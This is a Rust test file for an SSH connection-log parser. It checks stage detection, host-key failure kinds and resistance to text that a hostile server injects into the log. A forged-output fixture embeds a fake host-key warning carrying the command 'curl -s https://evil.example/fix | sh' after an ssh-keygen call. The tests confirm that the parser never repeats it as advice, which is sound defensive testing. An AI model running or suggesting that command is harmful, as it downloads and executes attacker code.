//! What is made of the log, and what hosts that write into it gain.

use super::*;

fn log(text: &str) -> Log {
    let mut log = Log::default();
    // In pieces, as it may come.
    text.as_bytes().chunks(7).for_each(|piece| log.push(piece));
    log
}

fn check(text: &str, aside: &str, expected: &str) {
    let Cause { stage, problem, .. } = log(text).cause(aside);
    assert_eq!(format!("{stage}: {}", problem.what), expected);
}

const CONNECTED: &str =
    "debug1: Connecting to web1 [10.0.0.1] port 22.\r\ndebug1: Connection established.\r\n";

const SHOWN: &str = "debug1: Server host key: ssh-ed25519 SHA256:new\r\n";

const ACCEPTED: &str = "debug1: SSH2_MSG_NEWKEYS sent\r\n";

/// What a host would write to stand for another, with advice of its own.
const FORGED: &str = "debug1: SSH2_MSG_NEWKEYS sent\r\ndebug1: SSH2_MSG_SERVICE_ACCEPT received\r\n\
    Authenticated to web1 ([10.0.0.1]:22) using \"publickey\".\r\n\
    @    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\r\n\
    Offending ED25519 key in /home/me/.ssh/known_hosts:3\r\n\
    \u{20} ssh-keygen -f x; curl -s https://evil.example/fix | sh #\r\n\
    op@web1: Permission denied (publickey).\r\n";

#[test]
fn stages_are_told_apart() {
    let mut text = String::new();
    for (line, stage) in [
        ("OpenSSH_9.2p1", None),
        ("debug1: Connecting to web1 [10.0.0.1] port 22.", Some(Stage::Connect)),
        ("debug1: Server host key: ssh-ed25519 SHA256:a", Some(Stage::HostKey)),
        ("debug1: SSH2_MSG_NEWKEYS sent", Some(Stage::Login)),
        ("debug1: Remote: /root/.ssh/authorized_keys:1: key options: pty", Some(Stage::Login)),
        ("Authenticated to web1 ([10.0.0.1]:22) using \"publickey\".", Some(Stage::Upload)),
    ] {
        text.push_str(line);
        text.push_str("\r\n");
        assert_eq!(log(&text).stage(), stage, "{line}");
    }
    assert!(!log(&text).tells_of_a_signal());
    assert_eq!(log(&text).fingerprint(), Some("SHA256:a"));
    text.push_str("debug1: client_input_channel_req: channel 0 rtype exit-signal reply 0\r\n");
    assert!(log(&text).tells_of_a_signal());
    assert_eq!(log(&text).last(), None);
}

#[test]
fn the_words_of_ssh_name_stage_and_cause() {
    check(
        "ssh: Could not resolve hostname no.invalid: Name or service not known\r\n",
        "",
        "resolve: no address found for `no.invalid`: Name or service not known",
    );
    check(
        "debug1: Connecting to ::1 [::1] port 1.\r\nssh: connect to host ::1 port 1: Connection refused\r\n",
        "",
        "connect: ::1:1 takes no connection: Connection refused",
    );
    let denied = "op@web1: Permission denied (publickey,password).";
    let login = format!("{CONNECTED}{SHOWN}{ACCEPTED}debug1: SSH2_MSG_SERVICE_ACCEPT received\r\n");
    check(
        &format!("{login}{denied}\r\n"),
        "Authorised use only\n",
        &format!("login: `ssh` or the host says: {}", denied.trim_end_matches('.')),
    );
    check(
        &format!("{login}Connection closed by 10.0.0.1 port 22\r\n"),
        "",
        "login: `ssh` or the host says: Connection closed by 10.0.0.1 port 22",
    );
    check("", "", "resolve: `ssh` ends and says nothing");
    check(
        "command-line: line 0: Bad configuration option: nonsense\r\n",
        "",
        "resolve: `ssh` says: command-line: line 0: Bad configuration option: nonsense",
    );
}

#[test]
fn who_hangs_up_at_once_may_be_asked_again() {
    let text = "kex_exchange_identification: read: Connection reset by peer\r\nConnection reset by 10.0.0.1 port 22\r\n";
    let hung_up = |aside: &str| log(&format!("{CONNECTED}{text}")).cause(aside).hung_up;
    assert!(hung_up(""));
    assert!(hung_up(text));
    assert!(!hung_up("bastion: down"));
    assert!(!hung_up(&format!("op@bastion: Permission denied (publickey).\r\n{text}")));
    check(
        &format!("debug1: Executing proxy command: exec ssh -W x y\r\n{text}"),
        "op@bastion: Permission denied (publickey).\r\n",
        "connect: `ssh` says: kex_exchange_identification: read: Connection reset by peer; who connects for it says: \
         op@bastion: Permission denied (publickey).",
    );
}

#[test]
fn a_key_that_is_not_good_is_told_by_its_kind() {
    let check = |text: &str, expected: BadKey| {
        let cause = log(&format!("{CONNECTED}{SHOWN}{text}")).cause("");
        assert_eq!((cause.stage, cause.key), (Stage::HostKey, Some(expected)), "{text}");
    };
    check(
        "@@@@@@@@@\r\n@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\r\n\
         Offending ED25519 key in /home/me/.ssh/known_hosts:3\r\nHost key verification failed.\r\n",
        BadKey::Changed,
    );
    check(
        "@       WARNING: REVOKED HOST KEY DETECTED!               @\r\nHost key verification failed.\r\n",
        BadKey::Revoked,
    );
    check(
        "No ED25519 host key is known for web1 and you have requested strict checking.\r\n\
         Host key verification failed.\r\n",
        BadKey::Unknown,
    );
}

#[test]
fn a_stranger_gains_nothing_by_what_it_writes_into_the_log() {
    let quoted = format!("{:?}", format!("bye\n{}", FORGED.replace("\r\n", "\n").trim_end()));
    let ended = format!("the host ended the connection, with the words {quoted}");
    for (before, stage) in [(CONNECTED, "connect"), (&format!("{CONNECTED}{SHOWN}"), "host key")] {
        let text = format!(
            "{before}Received disconnect from UNKNOWN port 65535:2: bye\r\n{FORGED}Disconnected from UNKNOWN port 65535\r\n"
        );
        check(&text, "", &format!("{stage}: {ended}"));
        let cause = log(&text).cause("");
        let hint = cause.problem.hint.unwrap();
        assert!(
            cause.key.is_none() && !hint.contains("evil") && !hint.contains("keygen -f"),
            "{hint}"
        );
        assert_eq!(log(&text).last(), Some(ended.clone()));
    }
    // Before the host's key is accepted, and `ssh` goes on: only how it ends counts.
    for hearsay in [
        "debug1: Remote: hello",
        "debug1: Server host certificate: ssh-ed25519-cert-v01@openssh.com SHA256:c, serial 0 ID \"x",
    ] {
        let text = format!("{CONNECTED}{hearsay}\r\n{FORGED}");
        let reached = log(&text).stage().unwrap();
        assert!(reached <= Stage::HostKey && log(&text).is_doubted(), "{hearsay}: {reached}");
        let end = |line: &str| {
            let Cause { stage, problem, key, .. } = log(&format!("{text}{line}\r\n")).cause("");
            (stage, problem.what, key)
        };
        let said = |line: &str| format!("`ssh` or the host says: {line}");
        let failed = "Host key verification failed";
        let key = Some(BadKey::Unknown);
        assert_eq!(end(&format!("{failed}.")), (Stage::HostKey, said(failed), key));
        let closed = "Connection closed by 10.0.0.1 port 22";
        assert_eq!(end(closed), (reached, said(closed), None));
    }
}

#[test]
fn the_host_that_was_meant_feigns_no_bad_key() {
    let text = format!(
        "{CONNECTED}{SHOWN}{ACCEPTED}debug1: Remote: x\r\n{FORGED}Host key verification failed.\r\n"
    );
    let cause = log(&text).cause("");
    assert_eq!(cause.key, None);
    assert!(cause.stage >= Stage::Login, "{}", cause.stage);
    assert!(cause.problem.what.starts_with("`ssh` or the host says: "), "{}", cause.problem.what);
}

#[test]
fn a_login_behind_a_certificate_is_told_by_its_end() {
    let certified = format!(
        "{CONNECTED}debug1: Server host certificate: ssh-ed25519-cert-v01@openssh.com SHA256:c, serial 0 ID \"id\" \
         CA ssh-ed25519 SHA256:d valid forever\r\n{ACCEPTED}"
    );
    check(
        &format!("{certified}op@web1: Permission denied (publickey).\r\n"),
        "",
        "login: `ssh` or the host says: op@web1: Permission denied (publickey)",
    );
}

#[test]
fn what_both_do_not_share_is_the_hosts_offer() {
    let text = format!(
        "{CONNECTED}Unable to negotiate with 10.0.0.1 port 22: no matching key exchange method found. Their offer: a,b\r\n{FORGED}"
    );
    let cause = log(&text).cause("");
    assert_eq!(cause.stage, Stage::Connect);
    let what = cause.problem.what;
    assert!(
        what.starts_with("the host and `ssh` share no algorithm; the host offers \"a,b\\n"),
        "{what}"
    );
    assert!(cause.problem.hint.unwrap().contains("`ssh -Q kex`"));
}
